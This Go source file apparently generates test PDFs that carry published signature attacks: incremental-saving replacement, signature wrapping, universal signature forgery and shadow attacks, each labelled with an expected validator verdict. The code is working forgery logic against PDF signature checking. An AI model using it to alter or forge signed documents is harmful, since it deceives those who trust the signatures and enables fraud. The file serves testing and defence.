package attack

import (
	"bytes"
	"fmt"
	"regexp"
	"strconv"
	"strings"

	"github.com/fselint/fselint/cda/pdfwrite"
	"github.com/fselint/fselint/pades/sign"
)

// saving makes incremental saving attacks (Mladenov et al. 2019, section 4.3).
func (m *maker) saving(signed []byte) {
	const kind = "incremental-saving"
	m.add("saving-content", kind, "OK", "the text of the page was replaced in an update",
		m.replace(signed, map[int]string{text: stream("", instead)}))
	m.add("saving-cda", kind, "OK", "the CDA was replaced in an update: the gateway takes the new one",
		m.replace(signed, map[int]string{embedded: stream("/Type/EmbeddedFile", forged)}))
	m.add("saving-page", kind, "OK", "a page was added in an update",
		m.replace(signed, map[int]string{
			pageTree: "<</Type/Pages/Kids[3 0 R 20 0 R]/Count 2>>",
			20:       "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
		}))
	m.add("saving-unlisted", kind, "OK", "an object was appended without a cross-reference: readers that repair files take it",
		fmt.Appendf(bytes.Clone(signed), "%d 0 obj\n%s\nendobj\n", text, stream("", instead)))
}

// wrapping makes a signature wrapping attack (Mladenov et al. 2019, section 4.4): the second part of the signed bytes moves to
// the end, a second /ByteRange says so, and at the place where the signed startxref points there is another cross-reference.
func (m *maker) wrapping(signed []byte) {
	open := bytes.LastIndex(signed, []byte("/Contents<")) + len("/Contents")
	closed := open + bytes.IndexByte(signed[open:], '>') + 1
	second := signed[closed:]
	last := regexp.MustCompile(`startxref\s+(\d+)\s+%%EOF\s*$`).FindSubmatch(signed)
	target, err := strconv.Atoi(string(last[1]))
	if err != nil {
		m.err = err
		return
	}
	digits := strings.TrimRight(string(signed[open+1:closed-1]), "0")
	digits += strings.Repeat("0", len(digits)%2)
	out := bytes.Clone(signed[:open])
	out = append(out, "<"+digits+">"...)
	rangeAt := len(out)
	out = append(out, strings.Repeat(" ", 60)...)
	out = append(out, "/M (D:20260115103000+01'00')>>\nendobj\n"...)
	offset := len(out)
	out = fmt.Appendf(out, "%d 0 obj\n%s\nendobj\n", text, stream("", instead))
	out = append(out, strings.Repeat(" ", max(0, target-len(out)-1))+"\n"...)
	// every object that the signed cross-reference locates has moved: locate it anew
	table := regexp.MustCompile(`(?s)xref\n(.*?)trailer\n(.*?)\nstartxref`).FindSubmatch(signed[target:])
	moved := regexp.MustCompile(`(\d+) 1\n(\d{10}) `).FindAllSubmatch(table[1], -1)
	xref := fmt.Sprintf("xref\n%d 1\n%010d 00000 n \n", text, offset)
	end := len(out) + len(xref) + len(table[1]) + len(table[2]) + len("trailer\n\n")
	for _, e := range moved {
		at, _ := strconv.Atoi(string(e[2]))
		if at >= closed {
			at += end - closed
		}
		xref += fmt.Sprintf("%s 1\n%010d 00000 n \n", e[1], at)
	}
	out = append(out, xref+"trailer\n"+string(table[2])+"\n"...)
	copy(out[rangeAt:], fmt.Sprintf("/ByteRange[0 %d %d %d]", open, len(out), len(second)))
	m.add("wrapping", "signature-wrapping", "INVALID", "the signed bytes were moved apart to make room for another text", append(out, second...))
}

// forgery makes universal signature forgeries (Mladenov et al. 2019, section 4.2): entries that a reader needs are missing or
// mean nothing.
func (m *maker) forgery() {
	const kind = "universal-signature-forgery"
	dictionary := func(change func(string) string) func(*sign.Options) {
		return func(o *sign.Options) { o.Layout.Dictionary = change }
	}
	without := func(mark string) func(string) string {
		return func(s string) string { return strings.Replace(s, mark, "", 1) }
	}
	m.add("forgery-no-range", kind, "INVALID", "/ByteRange is missing",
		m.signWith(document(), "Firma1", dictionary(without("/ByteRange"+sign.ByteRangeMark))))
	m.add("forgery-null-range", kind, "INVALID", "/ByteRange is null",
		m.signWith(document(), "Firma1", dictionary(func(s string) string { return strings.Replace(s, sign.ByteRangeMark, " null", 1) })))
	m.add("forgery-negative-range", kind, "INVALID", "/ByteRange has negative numbers",
		m.signWith(document(), "Firma1", func(o *sign.Options) {
			o.Layout.Ranges = func(open, closed, size int) ([]int, string) {
				return []int{0, open, closed, size - closed}, fmt.Sprintf("[0 -%d -%d %d]", open, closed, size-closed)
			}
		}))
	m.add("forgery-zero-contents", kind, "INVALID", "/Contents is all zero",
		m.signWith(document(), "Firma1", func(o *sign.Options) {
			o.Layout.Hex = func(digits []byte) []byte { return bytes.Repeat([]byte("0"), len(digits)) }
		}))
	m.add("forgery-no-contents", kind, "INVALID", "/Contents is null, the byte range leaves out nothing",
		m.signWith(document(), "Firma1", func(o *sign.Options) {
			o.Layout.Dictionary = func(s string) string { return strings.Replace(s, sign.ContentsMark, " null", 1) }
			o.Layout.Ranges = func(_, _, size int) ([]int, string) { return []int{0, size}, fmt.Sprintf("[0 0 0 %d]", size) }
		}))
}

// shadow makes shadow attacks (Mainka et al. 2021): what is to be shown later was put into the document before it was signed.
func (m *maker) shadow(signed []byte) {
	m.add("shadow-hide-content", "shadow-hide", "OK", "an overlay was taken from the page after signing",
		m.replace(signed, map[int]string{onlyPage: page("[4 0 R]", "[10 0 R 14 0 R]")}))
	m.add("shadow-hide-empty", "shadow-hide", "OK", "an overlay was emptied after signing",
		m.replace(signed, map[int]string{overlay: stream("/Type/XObject/Subtype/Form/BBox[0 0 400 12]", "")}))
	m.add("shadow-hide-freed", "shadow-hide", "OK", "the overlay's object was set free: the gateway's reader shows it nonetheless",
		m.update(signed, func(u *pdfwrite.Update) { u.Free(overlay) }))
	m.add("shadow-replace-font", "shadow-replace", "OK", "a font was replaced after signing",
		m.replace(signed, map[int]string{font: "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding<</Type/Encoding/Differences[48/nine/eight/seven]>>>>"}))
	m.add("shadow-replace-appearance", "shadow-replace", "OK", "the appearance of a field was replaced, its value was not",
		m.replace(signed, map[int]string{drawn: stream("/Type/XObject/Subtype/Form/BBox[0 0 240 20]/Resources<</Font<</Helv 6 0 R>>>>",
			"/Tx BMC BT /Helv 12 Tf 2 4 Td (sostituito) Tj ET EMC")}))
	second := bytes.Index(signed, []byte("(prepared)\nendobj\n")) + len("(prepared)\nendobj\n")
	m.add("shadow-switch-object", "shadow-hide-and-replace", "OK", "a cross-reference alone makes readers take another text from the signed bytes",
		table(signed, text, second))
	m.switchTree()
}

// table appends a cross-reference with one entry and nothing else.
func table(pdf []byte, num, offset int) []byte {
	previous := regexp.MustCompile(`startxref\s+(\d+)\s+%%EOF\s*$`).FindSubmatch(pdf)
	return fmt.Appendf(bytes.Clone(pdf), "xref\n%d 1\n%010d 00000 n \ntrailer\n<</Size 40/Root 1 0 R/Prev %s>>\nstartxref\n%d\n%%%%EOF\n",
		num, offset, previous[1], len(pdf))
}

// switchTree makes the other form of hide and replace: a page tree that lay unused in the signed document.
func (m *maker) switchTree() {
	prepared := m.replace(document(), map[int]string{
		30: "<</Type/Pages/Kids[31 0 R]/Count 1>>",
		31: "<</Type/Page/Parent 30 0 R/MediaBox[0 0 595 842]/Contents 32 0 R/Resources<</Font<</F1 6 0 R>>>>>>",
		32: stream("", instead),
	})
	signed := m.sign(prepared, "Firma1", 0)
	root := signed[bytes.LastIndex(signed, []byte("\n1 0 obj\n"))+len("\n1 0 obj\n"):]
	root = root[:bytes.Index(root, []byte("\nendobj"))]
	m.add("shadow-switch-tree", "shadow-hide-and-replace", "OK", "the catalog was given a page tree that lay unused in the signed document",
		m.replace(signed, map[int]string{catalog: strings.Replace(string(root), "/Pages 2 0 R", "/Pages 30 0 R", 1)}))
}
